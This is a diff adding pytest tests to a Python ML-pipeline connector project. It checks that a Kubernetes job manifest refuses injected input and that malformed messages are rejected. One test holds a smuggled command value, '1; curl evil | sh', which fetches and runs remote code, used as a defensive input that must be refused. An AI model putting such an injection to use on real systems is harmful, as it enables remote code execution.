@@ -20,6 +20,7 @@ from stream.connectors.kubernetes import Kubernetes
 from stream.connectors.mlflow import Mlflow
 from stream.connectors.slack import Slack
 from stream.connectors.webhook import Webhook, key_of, signature
+from stream.workers.courier import _step
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -350,3 +351,31 @@ def test_a_mail_server_that_says_no(answer: str, error: type[Exception]) -> None
     """4xx passes, 5xx does not."""
     with MailServer(answer) as server, pytest.raises(error):
         Email("127.0.0.1", server.port, "a@b.c", ("d@e.f",), frozenset(), starttls=False).send(step())
+
+
+def test_what_a_message_names_does_not_reach_a_shell() -> None:
+    """A version with more in it than a plain word is refused where a manifest names it."""
+    manifest = {"apiVersion": "batch/v1", "kind": "Job", "spec": {"command": ["sh", "-c", "train --version {version}"]}}
+    target = Kubernetes(Client("http://127.0.0.1:1", 5.0), "ml", manifest, POLL)
+    assert "--version 7.1-rc_2" in json.dumps(target.object_of(step(version="7.1-rc_2")))
+    with pytest.raises(RefusedError, match="DRIFTGAUGE_ACTION"):
+        target.object_of(step(version="1; curl evil | sh"))
+
+
+@pytest.mark.parametrize(
+    "value",
+    [b"[" * 100_000, b"{", b"5", b"\xff", b'{"id": 1}', b"", None],
+    ids=["deep", "cut", "number", "bytes", "types", "empty", "none"],
+)
+def test_a_message_that_is_no_step_is_passed_over(value: bytes | None, caplog: pytest.LogCaptureFixture) -> None:
+    """And said."""
+    assert _step(value) is None
+    assert "is no step" in caplog.messages[-1]
+
+
+@pytest.mark.parametrize("changed", [{"complete_by": "tomorrow"}, {"via": 5}, {"dry_run": "no"}])
+def test_a_step_with_other_types_is_passed_over(changed: dict[str, Any]) -> None:
+    """A good one is read with all that it has."""
+    good = {**step(), "complete_by": "2026-11-27T18:00:00Z", "dry_run": False, "via": ["train"]}
+    assert _step(json.dumps(good).encode()) == good
+    assert _step(json.dumps({**good, **changed}).encode()) is None
